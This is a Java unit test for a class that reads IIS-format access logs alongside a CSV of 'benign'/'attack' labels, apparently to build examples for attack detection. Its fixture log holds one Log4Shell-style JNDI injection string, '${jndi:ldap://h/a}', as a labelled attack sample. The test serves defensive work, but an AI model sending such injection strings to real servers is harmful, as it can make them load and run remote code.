package dev.minga.node.data;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class LabelledLogTest {
    private static final List<String> NAMES = List.of("benign", "attack");
    private static final String LOG = """
        #Fields: cs-method cs-uri-stem cs(User-Agent)
        GET / curl/8

        GET /a ${jndi:ldap://h/a}
        GET /b Mozilla/5.0+(X11)
        not of this format at all
        """;

    @TempDir
    Path folder;

    @Test
    void labelledRecordsAreTakenAndTheOthersCounted() throws IOException {
        LabelledLog read = read("line,label\n6,attack\n2,benign\n4,attack\n");
        assertThat(read.examples())
                .containsExactly(
                        new Example("GET / curl/8", 0),
                        new Example("GET /a ${jndi:ldap://h/a}", 1),
                        new Example("not of this format at all", 1));
        assertThat(read.unlabelled()).isEqualTo(1);
        assertThat(read.unparsed()).isEqualTo(1);
    }

    @Test
    void onlyLinesThatAreWantedAreTakenByTheirNumberInTheLog() throws IOException {
        read("line,label\n6,attack\n2,benign\n4,attack\n");
        LabelledLog wanted = LabelledLog.read(
                folder.resolve("access.log"),
                LogFormat.IIS_W3C,
                folder.resolve("labels.csv"),
                NAMES,
                line -> line == 4,
                EntityNaming.UNKNOWN);
        assertThat(wanted.examples()).containsExactly(new Example("GET /a ${jndi:ldap://h/a}", 1));
    }

    @Test
    void anUnknownLabelIsRefusedWithItsPlace() {
        assertThatThrownBy(() -> read("2,benign\n4,malware\n"))
                .isInstanceOf(IOException.class)
                .hasMessage(folder.resolve("labels.csv") + ":2: unknown label 'malware', known are [benign, attack]");
    }

    @Test
    void aLabelOnALineWithoutARecordIsRefused() {
        for (int line : new int[] {1, 3, 7}) {
            assertThatThrownBy(() -> read("2,benign\n" + line + ",attack\n"))
                    .isInstanceOf(IOException.class)
                    .hasMessage(folder.resolve("labels.csv") + ": line " + line + " is labelled, but "
                            + folder.resolve("access.log") + " has no record there");
        }
    }

    private LabelledLog read(String labels) throws IOException {
        Path log = Files.writeString(folder.resolve("access.log"), LOG);
        Path csv = Files.writeString(folder.resolve("labels.csv"), labels);
        return LabelledLog.read(log, LogFormat.IIS_W3C, csv, NAMES);
    }
}
